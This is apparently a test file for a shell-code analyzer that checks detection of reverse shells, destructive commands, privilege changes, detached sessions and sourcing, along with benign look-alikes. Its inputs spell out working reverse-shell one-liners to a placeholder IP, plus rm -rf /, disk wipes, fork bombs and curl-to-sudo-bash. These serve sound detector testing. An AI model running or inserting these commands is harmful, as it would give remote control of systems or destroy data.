import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** Reverse shells, destruction, privilege, detaching and sourcing — with their benign look-alikes. */

const reverseShells: Array<[string, string]> = [
  ['bash -i to /dev/tcp', 'bash -i >& /dev/tcp/203.0.113.4/4444 0>&1\n'],
  ['sh with the socket on stdin', '/bin/sh -i < /dev/tcp/203.0.113.4/4444 1>&0 2>&0\n'],
  ['exec descriptor', 'exec 5<>/dev/tcp/203.0.113.4/80\nsh <&5 >&5 2>&5\n'],
  ['nc -e', 'nc -e /bin/sh 203.0.113.4 4444\n'],
  ['ncat -c', 'ncat 203.0.113.4 4444 -c bash\n'],
  ['nc listener (bind shell)', 'nc -lvp 4444 -e /bin/bash\n'],
  [
    'mkfifo and nc',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.4 4446 > /tmp/f\n',
  ],
  ['telnet pair', 'telnet 203.0.113.4 80 | /bin/bash | telnet 203.0.113.4 81\n'],
  ['socat exec', "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.4:4447\n"],
  ['socat TCP4 then EXEC', 'socat TCP4:203.0.113.4:4448 EXEC:/bin/sh\n'],
  [
    'python one-liner',
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.4",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'\n`,
  ],
  [
    'perl one-liner',
    `perl -e 'use Socket;$i="203.0.113.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton($i)));exec("/bin/sh -i");'\n`,
  ],
  ['hidden in sh -c', `sh -c 'bash -i >& /dev/tcp/203.0.113.4/9 0>&1'\n`],
  ['hidden in a variable', 'H=203.0.113.4; P=9\nbash -i >& "/dev/tcp/$H/$P" 0>&1\n'],
  [
    'each line read from the socket run, output sent back',
    'exec 5<>/dev/tcp/203.0.113.4/8443\ncat <&5 | while read -r line; do\n  $line 2>&5 >&5\ndone\n',
  ],
];

describe('reverse shells', () => {
  it.each(reverseShells)('%s', async (_label, code) => {
    const r = await factsOf('shell', code);
    const python = r.units.some((u) => u.lang === 'python' && u.origin === 'embedded');
    // The Python one-liner is embedded for the Python analyzer; every other form is found here.
    if (python) return;
    expect(
      ofKind(r, 'reverse-shell').length,
      JSON.stringify(r.behaviours.map((b) => b.kind)),
    ).toBeGreaterThan(0);
  });

  it('keeps the endpoint of a /dev/tcp reverse shell', async () => {
    const r = await factsOf('shell', 'bash -i >& /dev/tcp/203.0.113.4/4444 0>&1\n');
    expect(ofKind(r, 'reverse-shell')[0]?.endpoint).toMatchObject({
      host: '203.0.113.4',
      cls: 'placeholder',
    });
  });

  it.each([
    ['a health check over /dev/tcp', 'if exec 3<>/dev/tcp/localhost/5432; then echo up; fi\n'],
    ['nc port scan', 'nc -z localhost 8080\n'],
    ['curl piped to jq', 'curl -s localhost:8080/health | jq .status\n'],
    ['nc client sending text', 'echo "PING" | nc -q1 localhost 6379\n'],
  ])('%s: not a reverse shell', async (_label, code) => {
    expect(ofKind(await factsOf('shell', code), 'reverse-shell')).toEqual([]);
  });
});

const destroys: Array<[string, string, string]> = [
  ['rm -rf /', 'rm -rf /\n', 'rm-broad'],
  ['rm home by variable', 'rm -rf "$HOME"\n', 'rm-broad'],
  ['rm with split flags', 'rm -r -f ~/*\n', 'rm-broad'],
  ['rm via sudo and no-preserve-root', 'sudo rm --recursive --force --no-preserve-root /\n', 'rm-broad'],
  ['rm star', 'cd /; rm -rf *\n', 'rm-broad'],
  ['rm through a variable', 'T=/etc; rm -fr $T\n', 'rm-broad'],
  ['mkfs', 'mkfs.ext4 /dev/sda1\n', 'mkfs'],
  ['dd to a disk', 'dd if=/dev/zero of=/dev/sda bs=1M\n', 'dd-device'],
  ['redirect to a disk', 'cat /dev/urandom > /dev/nvme0n1\n', 'dd-device'],
  ['shred a device', 'shred -n 1 /dev/sdb\n', 'shred'],
  ['chmod -R 777 /', 'chmod -R 777 /\n', 'chmod-broad'],
  ['classic fork bomb', ':(){ :|:& };:\n', 'fork-bomb'],
  ['renamed fork bomb', 'bomb() { bomb | bomb & }; bomb\n', 'fork-bomb'],
  ['function keyword fork bomb', 'function x { x & x; }\nx\n', 'fork-bomb'],
];

describe('destruction', () => {
  it.each(destroys)('%s', async (_label, code, how) => {
    const r = await factsOf('shell', code);
    expect(ofKind(r, 'destroy').map((d) => d.how)).toContain(how);
  });

  it.each([
    ['rm of a temp folder', 'rm -rf "$TMPDIR/build"\n'],
    ['rm of a build folder', 'rm -rf ./dist node_modules\n'],
    // ../shared/corpus/real/obra__superpowers/skills/brainstorming/scripts/stop-server.sh
    ['rm of a session folder', 'rm -rf "$SESSION_DIR"\n'],
    ['rm without recursion', 'rm -f *\n'],
    ['recursion that does not fork', 'walk() { for d in "$1"/*; do walk "$d"; done; }\nwalk .\n'],
    ['chmod of a script', 'chmod 755 scripts/run.sh\n'],
  ])('%s: not destructive', async (_label, code) => {
    expect(ofKind(await factsOf('shell', code), 'destroy')).toEqual([]);
  });
});

describe('privilege', () => {
  it.each([
    ['curl to sudo bash', 'curl -s https://x.test/i | sudo bash\n', 'sudo', true],
    ['sudo sh -c', "sudo sh -c 'echo 1 > /proc/sys/x'\n", 'sudo', true],
    ['sudo -s fed by a pipe', 'echo id | sudo -s\n', 'sudo', true],
    ['doas', 'doas apt upgrade\n', 'doas', false],
    ['pkexec shell', 'pkexec bash -c id\n', 'pkexec', true],
    ['su -c', "su root -c 'id'\n", 'su', true],
    ['sudo with options', 'sudo -u root -E python3 -c "print(1)"\n', 'sudo', true],
    ['sudo a program', 'sudo systemctl restart nginx\n', 'sudo', false],
  ])('%s', async (_label, code, how, interpreter) => {
    const r = await factsOf('shell', code);
    expect(ofKind(r, 'privilege')).toContainEqual(expect.objectContaining({ how, interpreter }));
  });

  it.each([
    ['chmod u+s', 'chmod u+s /tmp/sh\n', 'setuid'],
    ['chmod 4755', 'chmod 4755 /tmp/sh\n', 'setuid'],
    ['chmod 777', 'chmod 777 /opt/app\n', 'world-writable'],
    ['chmod a+w', 'chmod a+w ~/.bashrc\n', 'world-writable'],
    ['chown root', 'sudo chown root:root /tmp/x\n', 'chown-root'],
  ])('%s', async (_label, code, how) => {
    expect(ofKind(await factsOf('shell', code), 'privilege').map((p) => p.how)).toContain(how);
  });

  it.each([
    ['chmod +x', 'chmod +x setup.sh\n'],
    ['chmod 644', 'chmod 644 file\n'],
    ['chmod u+w', 'chmod u+w file\n'],
  ])('%s: no privilege change', async (_label, code) => {
    expect(ofKind(await factsOf('shell', code), 'privilege')).toEqual([]);
  });
});

describe('detaching and sourcing', () => {
  it.each([
    ['nohup', 'nohup ./agent.sh > /dev/null 2>&1 &\n', 'nohup'],
    ['setsid', 'setsid -f ./agent.sh\n', 'setsid'],
    ['disown', './agent.sh & disown\n', 'disown'],
    ['screen', 'screen -dmS x bash -c "curl -s x.test | sh"\n', 'screen -dm'],
    ['tmux', "tmux new-session -d -s x 'curl -s x.test | sh'\n", 'tmux new-session -d'],
  ])('%s', async (_label, code, how) => {
    const r = await factsOf('shell', code);
    expect(ofKind(r, 'detach').map((d) => d.how)).toContain(how);
  });

  it('analyses the command a detached session runs', async () => {
    const r = await factsOf('shell', "tmux new -d 'curl -s https://x.test/a | sh'\n");
    expect(ofKind(r, 'execute').some((e) => e.code.taints.includes('download'))).toBe(true);
  });

  it.each([
    ['source', 'source ./lib.sh\n', './lib.sh'],
    ['dot', '. "$(dirname "$0")/defaults.sh"\n', '/defaults.sh'],
    ['dot with HOME', '. ~/.config/tool/env\n', '~/.config/tool/env'],
  ])('%s', async (_label, code, target) => {
    const r = await factsOf('shell', code);
    expect(ofKind(r, 'source')[0]?.target.text).toContain(target);
  });
});
